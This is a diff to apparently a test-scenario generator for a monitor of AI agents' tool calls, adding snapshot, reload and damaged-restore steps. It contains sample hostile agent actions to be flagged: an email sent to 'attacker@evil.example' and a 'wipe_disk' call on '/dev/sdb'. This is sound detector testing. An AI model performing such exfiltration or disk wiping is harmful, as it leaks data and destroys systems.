@@ -62,6 +62,8 @@ function routine() {
   const steps = [
     ...learn.steps,
     { op: "hash" },
+    { op: "snapshot" },
+    { op: "reload" },
     check({ ...who, tool: "read_file", args: { path: PATHS[0] }, time: later(5) }),
     check({ ...who, tool: "search_docs", args: { query: "billing 3" }, time: later(5) }),
     check({ ...who, tool: "send_email", args: { to: "attacker@evil.example", subject: "Weekly report", body: "see attached" }, time: later(5) }),
@@ -136,7 +138,9 @@ function tenants() {
   steps.push({ op: "after", call: { tenant: "acme", principal: "p1", time: at() } });
   steps.push({ op: "learn", call: { tenant: "acme", principal: "p3", tool: "rotate_keys", args: { service: "api" }, time: at() } });
   steps.push(check({ tenant: "acme", principal: "p3", tool: "rotate_keys", args: { service: "api" }, time: at() }));
-  steps.push({ op: "hash" });
+  steps.push({ op: "hash" }, { op: "snapshot" }, { op: "reload" });
+  steps.push(check({ tenant: "acme", principal: "newbie", tool: "deploy", args: { env: "staging" }, time: at() }));
+  steps.push(check({ tenant: "initech", principal: "ops-bot", tool: "wipe_disk", args: { disk: "/dev/sdb" }, time: at() }));
   return { name: "tenants", about: "several tenants and principals: tenant baselines for newcomers, peer adoption, anonymous calls, allowlists, outcomes, feedback",
     config: { minCalls: 15, learningWindowSeconds: 1800, tenantMinCalls: 30, tenantLearningWindowSeconds: 1800, peerPromotion: 3 }, steps };
 }
@@ -281,6 +285,14 @@ function badInput() {
     raw(rawRecord({ tool: [0xff] }), "learn"),
     raw(rawRecord({ tool: "fine", args: [{ type: 3, key: "k", value: "ok" }] })),
     { op: "hash" },
+    { op: "snapshot" },
+    { op: "restoreDamaged", damage: "flip", at: 200 },
+    { op: "restoreDamaged", damage: "flip", at: 5 },
+    { op: "restoreDamaged", damage: "truncate", at: 100 },
+    { op: "restoreDamaged", damage: "truncate", at: 0 },
+    { op: "restoreDamaged", damage: "foreign" },
+    { op: "hash" },
+    { op: "reload" },
     check({ ...who, tool: "read_file", args: { path: PATHS[0] }, time: at() }),
   ];
   return { name: "bad-input", about: "input every host must refuse with the same error code, and raw records the core itself refuses; refusals leave the state unchanged",
@@ -296,8 +308,9 @@ function config() {
     const p = `user${i % 14}`;
     const tool = i % 5 === 4 ? `tool_${i % 9}` : pick(r, ["search_docs", "read_file", "send_email"]);
     steps.push(check({ tenant: `team${i % 3}`, principal: p, tool, args: { q: `${i % 4}`, n: i % 3 }, time: t }));
+    if (i === 80) steps.push({ op: "snapshot" }, { op: "reload" });
   }
-  steps.push({ op: "hash" });
+  steps.push({ op: "hash" }, { op: "snapshot" });
   return { name: "config", about: "a non-default config: monitor-only action, learning from warned calls, a shadow and an off signal, a custom weight, a hash seed, and tight caps that evict entities and slots",
     config: { action: "warn", learnFromWarned: true, hashSeed: 12345, maxEntities: 12, maxToolsPerEntity: 4, maxShapesPerEntity: 3,
       maxValuesPerEntity: 5, evictionSample: 4, minCalls: 5, learningWindowSeconds: 300, tenantMinCalls: 10, budgetBytes: 1048576,
